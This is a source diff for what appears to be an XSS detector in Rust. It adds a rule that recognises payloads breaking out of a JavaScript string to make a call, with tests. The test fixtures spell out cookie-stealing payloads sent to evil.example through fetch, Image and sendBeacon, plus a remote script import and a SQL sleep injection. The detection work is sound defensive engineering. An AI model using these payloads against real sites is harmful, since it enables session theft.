@@ -17,6 +17,10 @@
 //!   makes of its code (a script body unlike the `alert(1)` of the training
 //!   lists scored 0.2-0.3, as did `<x onxxx=1` from a model trained without
 //!   the PayloadsAllTheThings lists).
+//! - [`string_breakout_call`]: a quote that closes a JavaScript string,
+//!   an operator or `;`, then a call (`'-fetch('//x/'+document.cookie)-'`,
+//!   `x');new Image().src=...`) is code in a script context, whatever it
+//!   calls (0.10-0.55 from the model for calls other than `alert`).
 
 /// URL schemes that run script where a URL is followed.
 const SCRIPT_SCHEMES: &[&[u8]] = &[
@@ -161,6 +165,62 @@ fn scan_tag(b: &[u8], lt: usize) -> TagScan {
             j += 1;
         }
     }
+}
+
+/// Whether a quote that ends a JavaScript string is followed, after any
+/// closing `)`, `]` or `}`, by an operator or `;` and then a call: an
+/// identifier path (`fetch`, `navigator.sendBeacon`, `new Image`) directly
+/// followed by `(` or a backtick. A space before the `(` is left to the
+/// model (`'yes' - then (maybe)` is prose more often than code).
+pub fn string_breakout_call(v: &str) -> bool {
+    let b = v.as_bytes();
+    b.iter().enumerate().any(|(i, &q)| {
+        if !matches!(q, b'\'' | b'"' | b'`') {
+            return false;
+        }
+        let mut j = i + 1;
+        while j < b.len() && matches!(b[j], b')' | b']' | b'}') {
+            j += 1;
+        }
+        let ops = j;
+        while j < b.len()
+            && matches!(
+                b[j],
+                b';' | b'+' | b'-' | b'*' | b'/' | b',' | b'|' | b'&' | b'^' | b'%'
+            )
+        {
+            j += 1;
+        }
+        if j == ops {
+            return false;
+        }
+        while j < b.len() && b[j].is_ascii_whitespace() {
+            j += 1;
+        }
+        if b[j..].starts_with(b"new ") {
+            j += 4;
+            while j < b.len() && b[j].is_ascii_whitespace() {
+                j += 1;
+            }
+        }
+        // An identifier path, then `(` or a backtick at once.
+        loop {
+            if !b
+                .get(j)
+                .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_' || *c == b'$')
+            {
+                return false;
+            }
+            while j < b.len() && (b[j].is_ascii_alphanumeric() || b[j] == b'_' || b[j] == b'$') {
+                j += 1;
+            }
+            match b.get(j) {
+                Some(b'.') => j += 1,
+                Some(b'(' | b'`') => return true,
+                _ => return false,
+            }
+        }
+    })
 }
 
 /// `on` and letters: `onerror`, `onpointerenter`, `onxxx`.
@@ -350,9 +410,35 @@ mod tests {
         // Never a panic on any input, and a value settled as script is one
         // the capability gate lets through.
         #[test]
-        fn rules_agree_on_any_input(v in "[<>a-zA-Z =\"'/`():\t\n!?.]{0,40}") {
-            let settled = script_element(&v) || handler_element(&v);
+        fn rules_agree_on_any_input(v in "[<>a-zA-Z =\"'/`():\t\n!?.;+-]{0,40}") {
+            let settled = script_element(&v) || handler_element(&v) || string_breakout_call(&v);
             proptest::prop_assert!(!settled || script_capable(&v));
+        }
+    }
+
+    #[test]
+    fn string_breakouts_with_a_call() {
+        for v in [
+            "'-fetch('//evil.example/'+document.cookie)-'",
+            "\\';import('//evil.example/x.js');//",
+            "x');new Image().src='//evil.example/?'+document.cookie;//",
+            "\"};location.assign('//evil.example');//",
+            "'-prompt`1`-'",
+            "\";navigator.sendBeacon('//e.x',document.cookie)//",
+        ] {
+            assert!(string_breakout_call(v), "{v}");
+        }
+        for v in [
+            "O'Reilly-Media(TM)",
+            "the '90s-style(retro) look",
+            "'yes' - then (maybe)",
+            "It's 5 o'clock",
+            "{\"a\": \"b\", \"c\": 1}",
+            "'a'-",
+            "\"",
+            "x' or sleep(5)--",
+        ] {
+            assert!(!string_breakout_call(v), "{v}");
         }
     }
 
